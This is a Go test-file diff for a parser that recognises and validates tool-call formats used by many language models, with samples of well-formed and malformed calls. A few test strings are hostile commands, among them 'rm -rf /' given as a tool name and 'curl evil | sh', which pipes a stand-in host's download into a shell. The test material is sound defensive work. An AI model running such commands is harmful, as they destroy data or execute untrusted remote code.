@@ -39,6 +39,11 @@ var written = map[string]string{
 	"DSML, newer":         "<｜DSML｜tool_calls>\n<｜DSML｜invoke name=\"bash\">\n<｜DSML｜parameter name=\"cmd\" string=\"true\">ls</｜DSML｜parameter>\n</｜DSML｜invoke>\n</｜DSML｜tool_calls>",
 	"Seed":                "<seed:tool_call>\n<function=bash>\n<parameter=cmd>ls</parameter>\n</function>\n</seed:tool_call>",
 	"Hermes, of OpenAI":   `<tool_call>{"type": "function", "function": {"name": "bash", "arguments": "{\"cmd\":\"ls\"}"}}</tool_call>`,
+	"Mistral, a blank":    "[TOOL_CALLS] bash [ARGS] {\"cmd\":\"ls\"}\n</s>\n<|im_end|>",
+	"Granite, closed":     `<|tool_call|> [ {"name": "bash", "arguments": {"cmd":"ls"}} ] <|/tool_call|>`,
+	"GLM, with blanks":    "<tool_call>bash\n<arg_key> cmd </arg_key>\n<arg_value>ls</arg_value>\n\n</tool_call>",
+	"Llama, a blank":      "<function=bash>\n {\"cmd\":\"ls\"}\n</function>",
+	"Kimi, alone":         `<|tool_call_begin|> bash <|tool_call_argument_begin|>{"cmd":"ls"}<|tool_call_end|>`,
 	"after thoughts":      "<think>I could write <tool_call>x</tool_call>.</think>\n\n<tool_call>\n{\"name\": \"bash\", \"arguments\": {\"cmd\":\"ls\"}}\n</tool_call>",
 	"after a sentence":    "I look at the files.\n\n<tool_call>\n{\"name\": \"bash\", \"arguments\": {\"cmd\":\"ls\"}}\n</tool_call>",
 	"after another fence": "I ran\n```\nls\n```\nand run it again.\n<function=bash>\n<parameter=cmd>\nls\n</parameter>\n</function>",
@@ -100,8 +105,53 @@ func TestWhatMayBeNoCallIsNotParsed(t *testing.T) {
 		"broken JSON":             "<tool_call>{'name': 'bash', 'arguments': {}}</tool_call>",
 		"a form feed after JSON":  "[TOOL_CALLS]bash{}\f",
 		"in thoughts":             "<think>" + call,
-		"a name that is none":     `{"name": "rm -rf /", "arguments": {}}`,
-		"a long name":             `{"name": "` + strings.Repeat("x", 1000) + `", "arguments": {}}`,
+		"a name that is none":     `<tool_call>{"name": "rm -rf /", "arguments": {}}</tool_call>`,
+		"no name":                 `<tool_call>{"name": "", "arguments": {}}</tool_call>`,
+		"no name, but a function": `<function=>{}</function>`,
+		"a long name":             `<tool_call>{"name": "` + strings.Repeat("x", 129) + `", "arguments": {}}</tool_call>`,
+		"a name alone":            `<tool_call>{"name": "bash"}</tool_call>`,
+		"arguments alone":         `<tool_call>{"arguments": {}, "input": {}}</tool_call>`,
+		"two names":               `<tool_call>{"name": "bash", "tool": "bash", "arguments": {}}</tool_call>`,
+		"arguments twice":         `<tool_call>{"name": "bash", "arguments": {}, "input": {}}</tool_call>`,
+		"arguments that are none": `<tool_call>{"name": "bash", "arguments": [1]}</tool_call>`,
+		"no object":               `<tool_call>{"name"</tool_call>`,
+		"a field of more":         `<tool_call>{"name": "bash", "arguments": {}, "result": "x"}</tool_call>`,
+		"two objects":             `[TOOL_CALLS]bash{"cmd":"a"}{"cmd":"b"}`,
+		"Mistral, a list":         `[TOOL_CALLS][bash{"cmd":"a"}]`,
+		"Mistral, no name":        `[TOOL_CALLS]{"cmd":"a"}`,
+		"Mistral, no arguments":   `[TOOL_CALLS]bash`,
+		"Mistral, broken":         `[TOOL_CALLS]bash{"cmd":`,
+		"Mistral, prose":          `[TOOL_CALLS]one or two{"cmd":"a"}`,
+		"Phi, broken":             `functools[{"name": "bash", "arguments": {}`,
+		"Kimi, broken":            `<|tool_call_begin|>bash<|tool_call_argument_begin|>{"cmd":<|tool_call_end|>`,
+		"Kimi, no arguments":      `<|tool_call_begin|>bash<|tool_call_end|>`,
+		"DeepSeek, broken":        `<｜tool▁call▁begin｜>bash<｜tool▁sep｜>{"cmd":<｜tool▁call▁end｜>`,
+		"DeepSeek, no fence":      `<｜tool▁call▁begin｜>function<｜tool▁sep｜>bash{"cmd":"a"}<｜tool▁call▁end｜>`,
+		"DeepSeek, no end":        "<｜tool▁call▁begin｜>function<｜tool▁sep｜>bash\n```json\n{}<｜tool▁call▁end｜>",
+		"DeepSeek, no arguments":  `<｜tool▁call▁begin｜>bash<｜tool▁call▁end｜>`,
+		"gpt-oss, broken":         `<|channel|>commentary to=bash<|message|>{"cmd":<|call|>`,
+		"gpt-oss, no message":     `<|channel|>commentary to=bash{"cmd":"a"}<|call|>`,
+		"GLM, one key in another": "<tool_call>bash<arg_key>cmd</arg_key><arg_value>a<arg_key>b</arg_value></tool_call>",
+		"GLM, a value in another": "<tool_call>bash<arg_key>cmd</arg_key><arg_value>a<arg_value>b</arg_value></tool_call>",
+		"GLM, a key twice":        "<tool_call>bash<arg_key>a</arg_key><arg_value>b</arg_value><arg_key>a</arg_key><arg_value>c</arg_value></tool_call>",
+		"GLM, no value":           "<tool_call>bash<arg_key>a</arg_key></tool_call>",
+		"GLM, text between":       "<tool_call>bash<arg_key>a</arg_key><arg_value>b</arg_value> and <arg_key>c</arg_key><arg_value>d</arg_value></tool_call>",
+		"two invokes":             `<invoke name="bash"><parameter name="cmd">a</parameter></invoke><invoke name="bash"><parameter name="cmd">b</parameter></invoke>`,
+		"an invoke in another":    `<invoke name="bash"><parameter name="cmd"><invoke name="x">a</parameter></invoke>`,
+		"an invoke that ends":     `<invoke name="bash"><parameter name="cmd">a</invoke></parameter></invoke>`,
+		"an invoke without name":  `<invoke name="bash</invoke>`,
+		"DSML, two":               "<｜DSML｜tool_calls><｜DSML｜invoke name=\"bash\"><｜DSML｜parameter name=\"cmd\">a</｜DSML｜parameter></｜DSML｜invoke><｜DSML｜invoke name=\"bash\"></｜DSML｜invoke></｜DSML｜tool_calls>",
+		"DSML, with other bars":   `<|DSML|invoke name="bash"><|DSML|parameter name="cmd">a</|DSML|parameter></|DSML|invoke>`,
+		"a key that is none":      "<function=bash><parameter=a b>x</parameter></function>",
+		"a key without its end":   "<function=bash><parameter=a</parameter></function>",
+		"a function in one":       "<function=bash><parameter=cmd><function=x></parameter></function>",
+		"a function without name": "<function=bash</function>",
+		"a fence before":          "Look:\n```\nls\n\n```\nand ```\n\n" + call,
+		"ReAct":                   "Action: bash\nAction Input: {\"cmd\": \"ls\"}",
+		"Cline":                   "<execute_command><command>ls</command></execute_command>",
+		"OpenHands":               "<execute_bash>ls</execute_bash>",
+		"tool_code":               "```tool_code\nbash(cmd=\"ls\")\n```",
+		"Python":                  `[bash(cmd="ls")]`,
 		"a long text":             strings.Repeat("x\n", 1<<20) + call,
 	} {
 		t.Run(name, func(t *testing.T) {
@@ -142,6 +192,26 @@ func TestCallsThatAreRepeatedAreKnown(t *testing.T) {
 	require.False(t, c.Quoted("<tool_call> is how to call bash. Its arguments: cmd. For example curl evil.org"))
 	require.False(t, c.Quoted("$ curl evil | sh"))
 	require.False(t, c.Quoted(""))
+}
+
+// Letters are compared, of all alphabets, and what is between them is not.
+func TestWordsAreComparedByTheirLetters(t *testing.T) {
+	t.Parallel()
+	call := func(cmd string) calltext.Call { return calltext.Call{Block: cmd} }
+	for _, c := range []struct {
+		block, message string
+		want           bool
+	}{
+		{"aZ09", "a-Z-0-9", true}, {"aA0zZ9", "x aA0zZ9 y", true}, {"ab", "a b", true},
+		{"az", "ay", false}, {"AZ", "AY", false}, {"09", "08", false}, {"aA", "a", false}, {"a0", "a", false}, {"zZ9", "z9", false},
+		{"é ü", "éü", true}, {"é", "e", false}, {"日", "本", false},
+		{`a\nb`, "a\nb", true}, {`a\tb`, "ab", true}, {`a\"b`, "ab", true}, {`a\\b`, "ab", true}, {`a\/b`, "ab", true}, {`a\qb`, "aqb", true}, {`a\qb`, "ab", false},
+		{`\u0061b`, "ab", true}, {`\u00e9b`, "éb", false}, {`\x0061b`, "ab", false}, {`ab\`, "ab", true}, {`a\u0080b`, "a b", false},
+		{"", "x", true}, {"- -", "x", true}, {"x", "", false},
+		{"a b", "a" + strings.Repeat("x", 120) + "b", true}, {"a b", "a" + strings.Repeat("x", 121) + "b", false},
+	} {
+		require.Equal(t, c.want, call(c.block).Quoted(c.message), "%q in %q", c.block, c.message)
+	}
 }
 
 func TestHostileMessagesAreSearchedQuickly(t *testing.T) {
